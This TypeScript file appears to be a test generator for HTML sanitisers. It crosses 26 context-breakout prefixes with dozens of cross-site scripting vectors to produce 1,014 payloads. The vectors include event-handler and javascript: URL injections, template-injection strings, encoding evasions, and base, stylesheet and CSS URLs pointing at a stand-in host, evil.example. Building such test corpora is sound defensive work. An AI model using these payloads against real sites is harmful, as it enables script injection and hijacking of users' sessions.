/** How markup gets out of where a text stands: nowhere, an attribute, an element, a comment, a program, a style. */
const ways = [
  ...['', '">', "'>", '" ', "' ", '`>', '</script>', '</style>', '</title>', '</textarea>', '</template>', '</svg>'],
  ...['-->', ']]>', '*/', '\\">', "\\'>", '${', '{{', '%>', '\u2028', '\n', '&quot;>', '&#34;>', '%22%3E', '\\u003e'],
]
/** What runs a script when it is markup. `taken` marks every element, so that none has to run to be found. */
const vectors = [
  '<img taken src=x onerror=alert(1)>',
  '<script taken>alert(1)</script>',
  '<svg taken onload=alert(1)>',
  '<svg taken><script>alert(1)</script></svg>',
  '<svg taken><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe taken srcdoc="<script>parent.alert(1)</script>">',
  '<iframe taken src=javascript:alert(1)>',
  '<body taken onload=alert(1)>',
  '<details taken open ontoggle=alert(1)>',
  '<video taken><source onerror=alert(1)>',
  '<audio taken src=x onerror=alert(1)>',
  '<input taken autofocus onfocus=alert(1)>',
  '<a taken href=javascript:alert(1)>x</a>',
  '<form taken><button formaction=javascript:alert(1)>x',
  '<object taken data=javascript:alert(1)>',
  '<embed taken src=javascript:alert(1)>',
  '<math taken><mi xlink:href="javascript:alert(1)">x',
  '<base taken href=//evil.example/>',
  '<link taken rel=stylesheet href=//evil.example/x.css>',
  '<meta taken http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<style taken>*{background:url(//evil.example/x)}</style>',
  '<noscript taken><p title="</noscript><img taken src=x onerror=alert(1)>">',
  '<xss taken style=animation-name:x onanimationstart=alert(1)>',
  '<ScRiPt taken>alert(1)</sCrIpT>',
  '<img/taken/src=x/onerror=alert(1)>',
  '<<script taken>alert(1)//<</script>',
  'x onmouseover=alert(1) taken=',
  '" autofocus onfocus=alert(1) taken="',
  'javascript:alert(1)//taken',
  'data:text/html,<script taken>alert(1)</script>',
  '[x](javascript:alert(1))<p taken>',
  '{% raw %}<p taken>',
  '\u0024{alert(1)}<p taken>',
  '{{constructor.constructor("alert(1)")()}}<p taken>',
  '<p taken\u0000 onclick=alert(1)>',
  '<div taken data-react-html={"__html":"<img src=x onerror=alert(1)>"}>',
  '&lt;img taken src=x onerror=alert(1)&gt;',
  '%3Cimg taken src=x onerror=alert(1)%3E',
  '\\u003cimg taken src=x onerror=alert(1)\\u003e',
]

/** So many of 1,014 payloads, of all kinds. */
export const payloads = (count: number): string[] => {
  const all = ways.flatMap(way => vectors.map(vector => way + vector))
  const step = Math.max(1, Math.floor(all.length / count))
  return all.filter((_, at) => at % step === 0).slice(0, count)
}
